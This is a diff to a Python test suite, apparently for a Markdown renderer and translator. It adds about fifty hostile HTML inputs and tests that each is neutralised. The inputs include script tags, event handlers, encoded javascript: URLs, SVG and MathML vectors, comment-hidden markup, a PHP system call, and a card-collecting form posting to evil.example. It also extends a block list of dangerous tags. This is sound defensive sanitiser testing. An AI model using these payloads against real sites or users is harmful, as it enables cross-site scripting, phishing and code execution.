@@ -73,9 +73,73 @@ CASES = {
     "bracket-bomb": "[" * 500 + "a" + "]" * 500,
     "safe-autolink": "<https://example.org/help>",
 }
+# Raw HTML a source may hold, or a translation may try: each is rendered as the
+# source of a page, and as the translation of a unit of an HTML block and of a
+# Markdown paragraph whose source has only <b>.
+HTML_CASES = {
+    "script-block": "<script>alert(1)</script>",
+    "script-inline": "Hi <script>alert(1)</script> there",
+    "script-upper-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "script-in-div": "<div><script>alert(1)</script>text</div>",
+    "img-onerror": '<img src=x onerror="alert(1)" alt="x">',
+    "img-onerror-unquoted": "<img src=x onerror=alert(1)>",
+    "body-onload": '<body onload="alert(1)">',
+    "details-ontoggle": '<details open ontoggle="alert(1)"><summary>More</summary></details>',
+    "a-javascript": '<a href="javascript:alert(1)">go</a>',
+    "a-javascript-upper": '<a href="JAVASCRIPT:alert(1)">go</a>',
+    "a-javascript-decimal-entity": '<a href="&#106;avascript:alert(1)">go</a>',
+    "a-javascript-hex-entity": '<a href="&#x6A;avascript:alert(1)">go</a>',
+    "a-javascript-tab-entity": '<a href="java&#9;script:alert(1)">go</a>',
+    "a-javascript-newline": '<a href="java\nscript:alert(1)">go</a>',
+    "a-javascript-leading-space": '<a href=" javascript:alert(1)">go</a>',
+    "a-javascript-colon-entity": '<a href="javascript&colon;alert(1)">go</a>',
+    "a-javascript-unquoted": "<a href=javascript:alert(1)>go</a>",
+    "a-vbscript": '<a href="vbscript:msgbox(1)">go</a>',
+    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD4=">go</a>',
+    "a-target-blank": '<a href="https://example.org" target="_blank">go</a>',
+    "img-javascript-src": '<img src="javascript:alert(1)" alt="x">',
+    "img-srcset": '<img src="a.png" srcset="javascript:alert(1) 1x" alt="a">',
+    "iframe": '<iframe src="https://evil.example"></iframe>',
+    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "style-block": "<style>body{display:none}</style>",
+    "style-attribute": '<p style="background:url(javascript:alert(1))">x</p>',
+    "svg-onload": '<svg onload="alert(1)"><circle r="5"/></svg>',
+    "svg-script": "<svg><script>alert(1)</script></svg>",
+    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    "form": '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
+    "object-embed": '<object data="evil.swf"></object><embed src="evil.swf">',
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "base-href": '<base href="https://evil.example/">',
+    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "template": "<template><script>alert(1)</script></template>",
+    "textarea-breakout": "<textarea></textarea><script>alert(1)</script>",
+    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "attribute-breakout": '<a href="https://example.org" title=\'x" onclick="alert(1)\'>go</a>',
+    "comment-hiding-script": "<!-- <script>alert(1)</script> -->",
+    "comment-in-sentence": "Dose <!-- <img src=x onerror=alert(1)> --> 5 mg",
+    "comment-unterminated": "<!-- hidden\n\n<script>alert(1)</script>",
+    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
+    "processing-instruction": '<?php system("id"); ?>',
+    "class-spoofing-the-notice": '<p class="notice">Reviewed by a doctor</p>',
+    "id-clobbering": '<img id="footnote-label" name="x" src="a.png" alt="a">',
+    "entity-encoded-tag": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "handler-on-the-source-tag": 'Nimm deine <b onclick="alert(1)">Medizin</b>.',
+    "the-source-tag-kept": "Nimm deine <b>Medizin</b>.",
+}
+HTML_SOURCE = "<p>Take your <b>medicine</b>.</p>\n"
+PARAGRAPH_SOURCE = "Take your <b>medicine</b>.\n"
+HTML_MSGID = "Take your <b>medicine</b>."
 _UNSAFE_URL = re.compile(r"^(?:javascript|vbscript|file):|^data:(?!image/png;)", re.IGNORECASE)
 _DANGEROUS_TAGS = {
     "script",
+    "form",
+    "input",
+    "button",
+    "textarea",
+    "template",
+    "noscript",
+    "body",
     "iframe",
     "style",
     "object",
@@ -103,6 +167,9 @@ class _Inspector(HTMLParser):
                 self.problems.append(f"{tag} {name}=")
             if name in ("href", "src") and _UNSAFE_URL.match((value or "").strip()):
                 self.problems.append(f"{tag} {name}={value}")
+            # No page of these tests has an element of its own with an id or a class.
+            if name in ("style", "srcset", "srcdoc", "class", "id"):
+                self.problems.append(f"{tag} {name}=")
 
 
 def _problems(html: str) -> list[str]:
@@ -152,6 +219,57 @@ def test_hostile_translation_is_inert(name: str) -> None:
         assert _problems(html) == []
         assert "49" not in html  # {{ 7*7 }} is never evaluated
     assert "<script" not in localized.lower() and "<img" not in localized.lower()
+
+
+def _html_outputs() -> dict[str, dict[str, str]]:
+    outputs = {}
+    for name, hostile in HTML_CASES.items():
+        translation = {HTML_MSGID: hostile}
+        outputs[name] = {
+            "source": render_html(hostile + "\n"),
+            "in-html-block": render_html(HTML_SOURCE, translation, locale="ar"),
+            "in-html-block-markdown": translate_markdown(HTML_SOURCE, translation),
+            "in-paragraph": render_html(PARAGRAPH_SOURCE, translation, locale="ar"),
+            "in-paragraph-markdown": translate_markdown(PARAGRAPH_SOURCE, translation),
+        }
+    return outputs
+
+
+def test_there_are_at_least_forty_hostile_html_cases() -> None:
+    """Scripts, handlers, javascript: in every spelling, frames, styles, SVG, MathML, forms,
+    srcset, style attributes and comments that hide markup."""
+    assert len(HTML_CASES) >= 40
+
+
+def test_hostile_html_outputs_are_exactly_the_golden_ones(
+    golden: Callable[[Path, str], None],
+) -> None:
+    """Each hostile piece of HTML, in a source and in translations, gives exactly the
+    reviewed HTML and Markdown in the golden table."""
+    golden(
+        DATA / "hostile" / "html-outputs.json",
+        json.dumps(_html_outputs(), indent=1, ensure_ascii=False) + "\n",
+    )
+
+
+@pytest.mark.parametrize("name", sorted(HTML_CASES))
+def test_hostile_html_is_inert(name: str) -> None:
+    """No script, handler or unsafe URL survives, from a source or from a translation, nor
+    in the localized Markdown rendered again."""
+    hostile = HTML_CASES[name]
+    translation = {HTML_MSGID: hostile}
+    pages = [
+        render_html(hostile + "\n"),
+        render_html(HTML_SOURCE, translation, locale="ar"),
+        render_html(PARAGRAPH_SOURCE, translation, locale="ar"),
+    ]
+    for source in (HTML_SOURCE, PARAGRAPH_SOURCE):
+        localized = translate_markdown(source, translation)
+        pages.append(render_html(localized))
+        assert _problems(localized) == [], "the localized Markdown itself, read as HTML"
+    for html in pages:
+        assert _problems(html) == []
+        assert "<!--" not in html and "alert(1)</" not in html
 
 
 def test_hostile_front_matter_is_escaped_in_the_page() -> None:
